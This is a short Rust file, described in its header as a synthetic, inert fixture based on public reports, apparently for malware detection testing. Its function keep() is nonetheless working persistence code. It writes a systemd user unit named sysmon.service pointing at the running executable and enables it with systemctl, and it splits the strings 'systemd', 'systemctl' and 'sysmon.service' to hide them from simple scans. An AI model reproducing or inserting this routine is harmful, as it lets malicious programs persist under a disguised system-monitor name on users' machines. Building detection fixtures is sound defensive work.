// Synthetic, inert fixture written from public reports; see README
use std::{fs, path::PathBuf, process::Command};

pub(crate) fn keep() -> Option<()> {
    let own = std::env::current_exe().ok()?;
    let manager = ["system", "d"].concat();
    let dir = PathBuf::from(std::env::var_os("HOME")?).join(".config").join(&manager).join("user");
    fs::create_dir_all(&dir).ok()?;
    let unit = include_str!("unit.txt").replace("@", &own.display().to_string());
    fs::write(dir.join(["sysmon", "service"].join(".")), unit).ok()?;
    Command::new(manager.replace('d', "ctl")).args(["--user", "enable", "--now", "sysmon"]).status().ok().map(drop)
}
